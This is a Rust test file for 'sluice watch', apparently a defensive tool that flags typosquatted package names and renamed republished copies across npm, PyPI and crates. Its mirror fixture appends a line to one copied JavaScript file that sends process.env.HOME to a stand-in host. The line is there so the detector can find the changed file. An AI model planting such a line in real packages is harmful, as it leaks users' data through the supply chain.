//! `sluice watch` (issue 16): made-up names per ecosystem for each confusion kind, names that
//! must not be reported, and a package republished under a new name with one file changed,
//! built at test time in a mirror directory.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::util::{sluice, tempdir};

/// `name → kind` of the candidates `sluice watch ARGS --format json` reports.
fn watch(args: &[&str]) -> (BTreeMap<String, String>, Value) {
    let mut all = vec!["watch"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--format", "json"]);
    let out = sluice(&all);
    let code = out.status.code();
    assert!(matches!(code, Some(0 | 1)), "exit {code:?}: {}", String::from_utf8_lossy(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).expect("json");
    let kinds = doc["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["name"].as_str().unwrap().to_string(), c["kind"].as_str().unwrap().to_string()))
        .collect();
    (kinds, doc)
}

const NAMES: &str = "\
npm zephyrlog
npm zephyrlgo
npm zephyr1og
npm zephyr-log
npm zephyrlog-js
npm zephyrlog2
npm @zephyrlog/zephyrlog
npm zephyrlof
npm zephyrlogs
npm Zephyrlog
npm zephyr
npm zephyrcat
npm logzephyr
npm @quill/parse
npm quill-parse
npm @quill/format
pypi grubnik
pypi grunbik
pypi python-grubnik
pypi grubnik-py
pypi Grub_Nik
pypi grub.nik
pypi grubnikz
pypi grubby
pypi rnarble
pypi marble
crates tidewell
crates tidewell_
crates tidwell
crates tiedwlel
crates tidewell-rs
crates tidewell_derive
crates Tidewell
crates tide
crates tidewell-quantumextra
crates longcratename
crates lnogcratenmae
crates longcratenam
";

fn names_file(dir: &Path) -> String {
    let path = dir.join("names.txt");
    std::fs::write(&path, NAMES).unwrap();
    path.to_string_lossy().into_owned()
}

#[test]
fn npm_confusions() {
    let dir = tempdir();
    let names = names_file(dir.path());
    let (got, _) = watch(&["zephyrlog", "--ecosystem", "npm", "--names", &names]);
    let want = [
        ("zephyrlgo", "transposition"),
        ("zephyr1og", "homoglyph"),
        ("zephyr-log", "separator"),
        ("zephyrlog-js", "combosquat"),
        ("zephyrlog2", "combosquat"),
        ("@zephyrlog/zephyrlog", "scope"),
        ("zephyrlof", "keyboard"),
        ("zephyrlogs", "edit-distance"),
    ];
    for (name, kind) in want {
        assert_eq!(got.get(name).map(String::as_str), Some(kind), "{name}: {got:?}");
    }
    // Same name under npm's normalisation, unrelated names, and a name from another ecosystem.
    for name in ["zephyrlog", "Zephyrlog", "zephyr", "zephyrcat", "logzephyr", "grubnik"] {
        assert!(!got.contains_key(name), "{name} reported: {got:?}");
    }
    assert_eq!(got.len(), want.len(), "{got:?}");

    let (got, _) = watch(&["@quill/parse", "--ecosystem", "npm", "--names", &names]);
    assert_eq!(got.get("quill-parse").map(String::as_str), Some("scope"), "{got:?}");
    assert!(!got.contains_key("@quill/format"), "{got:?}");
}

#[test]
fn pypi_confusions() {
    let dir = tempdir();
    let names = names_file(dir.path());
    let (got, doc) = watch(&["grubnik", "--ecosystem", "pypi", "--names", &names]);
    for (name, kind) in [
        ("grunbik", "transposition"),
        ("python-grubnik", "combosquat"),
        ("grubnik-py", "combosquat"),
        ("grubnikz", "edit-distance"),
    ] {
        assert_eq!(got.get(name).map(String::as_str), Some(kind), "{name}: {got:?}");
    }
    // `Grub_Nik` and `grub.nik` are one PyPI name (PEP 503): one separator candidate, not two.
    let sep: Vec<&String> = got.iter().filter(|(_, k)| *k == "separator").map(|(n, _)| n).collect();
    assert_eq!(sep, vec!["Grub_Nik"], "{got:?}");
    assert!(!got.contains_key("grubby"), "{got:?}");
    assert_eq!(doc["candidates"][0]["ecosystem"], "pypi");

    let (got, _) = watch(&["marble", "--names", &names]);
    assert_eq!(got.get("rnarble").map(String::as_str), Some("homoglyph"), "{got:?}");
}

#[test]
fn crates_confusions_and_distance_grows_with_length() {
    let dir = tempdir();
    let names = names_file(dir.path());
    let (got, _) = watch(&["tidewell", "--ecosystem", "crates", "--names", &names]);
    for (name, kind) in [("tidewell_", "separator"), ("tidwell", "edit-distance"), ("tidewell-rs", "combosquat")] {
        assert_eq!(got.get(name).map(String::as_str), Some(kind), "{name}: {got:?}");
    }
    // Two edits is too many for an 8-character name; `_derive` is a family, not a squat.
    for name in ["tiedwlel", "Tidewell", "tide", "tidewell_derive", "tidewell-quantumextra"] {
        assert!(!got.contains_key(name), "{name}: {got:?}");
    }
    // ...but a 13-character name tolerates two.
    let (got, _) = watch(&["longcratename", "--ecosystem", "crates", "--names", &names]);
    assert_eq!(got.get("lnogcratenmae").map(String::as_str), Some("edit-distance"), "{got:?}");
    assert_eq!(got.get("longcratenam").map(String::as_str), Some("edit-distance"), "{got:?}");
}

/// An npm tarball with `files` under `package/`.
fn tgz(path: &Path, files: &[(&str, &[u8])]) {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, format!("package/{name}"), *data).unwrap();
    }
    let tar = b.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&tar).unwrap();
    std::fs::write(path, gz.finish().unwrap()).unwrap();
}

fn manifest(name: &str, version: &str, deps: &[&str]) -> Vec<u8> {
    let deps: serde_json::Map<String, Value> = deps.iter().map(|d| (d.to_string(), Value::from("^1.0.0"))).collect();
    serde_json::to_vec(&serde_json::json!({"name": name, "version": version, "dependencies": deps})).unwrap()
}

fn mirror(dir: &Path) {
    let npm = dir.join("npm");
    std::fs::create_dir_all(&npm).unwrap();
    let files: Vec<(String, Vec<u8>)> = (0..6)
        .map(|i| {
            (
                format!("lib/part{i}.js"),
                format!("module.exports = function part{i}(x) {{ return x * {i}; }};\n").into_bytes(),
            )
        })
        .collect();
    let mut ours: Vec<(&str, &[u8])> = files.iter().map(|(p, d)| (p.as_str(), d.as_slice())).collect();
    let m = manifest("zephyrlog", "1.4.0", &[]);
    ours.push(("package.json", &m));
    ours.push(("LICENSE", b"MIT License\n"));
    tgz(&npm.join("zephyrlog-1.4.0.tgz"), &ours);

    // The copy: renamed, one file changed (an exfiltration line appended), one file added.
    let mut copy = ours.clone();
    let m2 = manifest("zephyr-logger-plus", "1.0.0", &[]);
    copy.retain(|(p, _)| *p != "package.json" && *p != "lib/part3.js");
    copy.push(("package.json", &m2));
    let changed =
        [files[3].1.as_slice(), b"\nrequire('https').get('https://example.invalid/?' + process.env.HOME);\n"].concat();
    copy.push(("lib/part3.js", &changed));
    copy.push(("lib/extra.js", b"module.exports = 1;\n"));
    tgz(&npm.join("zephyr-logger-plus-1.0.0.tgz"), &copy);

    // Unrelated packages, two of which depend on zephyrlog (so it is popular), and a squat.
    let dep = manifest("alpha-app", "2.0.0", &["zephyrlog"]);
    tgz(&npm.join("alpha-app-2.0.0.tgz"), &[("package.json", &dep), ("index.js", b"require('zephyrlog');\n")]);
    let dep = manifest("beta-app", "0.1.0", &["zephyrlog"]);
    tgz(&npm.join("beta-app-0.1.0.tgz"), &[("package.json", &dep), ("index.js", b"require('zephyrlog')();\n")]);
    let squat = manifest("zephyrlgo", "0.0.1", &[]);
    tgz(&npm.join("zephyrlgo-0.0.1.tgz"), &[("package.json", &squat), ("index.js", b"// hi\n")]);
}

#[test]
fn republished_copy_names_the_changed_file() {
    let dir = tempdir();
    mirror(dir.path());
    let root = dir.path().to_string_lossy().into_owned();
    let (got, doc) = watch(&["zephyrlog", "--mirror", &root]);
    assert_eq!(got.get("zephyr-logger-plus").map(String::as_str), Some("copy"), "{doc:#}");
    assert_eq!(got.get("zephyrlgo").map(String::as_str), Some("transposition"), "{doc:#}");
    assert!(!got.contains_key("alpha-app") && !got.contains_key("beta-app"), "{doc:#}");
    let copy = doc["candidates"].as_array().unwrap().iter().find(|c| c["name"] == "zephyr-logger-plus").unwrap();
    assert_eq!(copy["copy"]["of"], "zephyrlog@1.4.0");
    assert_eq!(copy["copy"]["identical"], 5);
    assert_eq!(copy["copy"]["files"], 7);
    let differs: Vec<(String, String)> = copy["copy"]["differs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["path"].as_str().unwrap().to_string(), d["change"].as_str().unwrap().to_string()))
        .collect();
    assert_eq!(
        differs,
        vec![("lib/extra.js".to_string(), "added".to_string()), ("lib/part3.js".to_string(), "modified".to_string())]
    );
    assert_eq!(copy["versions"], serde_json::json!(["1.0.0"]));
    // A copy outranks every name confusion.
    assert_eq!(doc["candidates"][0]["name"], "zephyr-logger-plus");
}

#[test]
fn registry_operator_view_uses_the_most_depended_upon() {
    let dir = tempdir();
    mirror(dir.path());
    let root = dir.path().to_string_lossy().into_owned();
    let (got, doc) = watch(&["--mirror", &root]);
    assert_eq!(doc["summary"]["targets"][0]["name"], "zephyrlog", "{doc:#}");
    assert!(got.contains_key("zephyrlgo") && got.contains_key("zephyr-logger-plus"), "{doc:#}");

    let top = dir.path().join("top.txt");
    std::fs::write(&top, "npm beta-app\n").unwrap();
    let (got, _) = watch(&["--mirror", &root, "--top", &top.to_string_lossy()]);
    assert!(got.is_empty(), "{got:?}");
}

#[test]
fn bad_input_is_a_usage_error() {
    let out = sluice(&["watch", "x"]);
    assert_eq!(out.status.code(), Some(2));
    let dir = tempdir();
    let out = sluice(&["watch", "x", "--mirror", &dir.path().to_string_lossy()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("hint:"), "{}", String::from_utf8_lossy(&out.stderr));
}
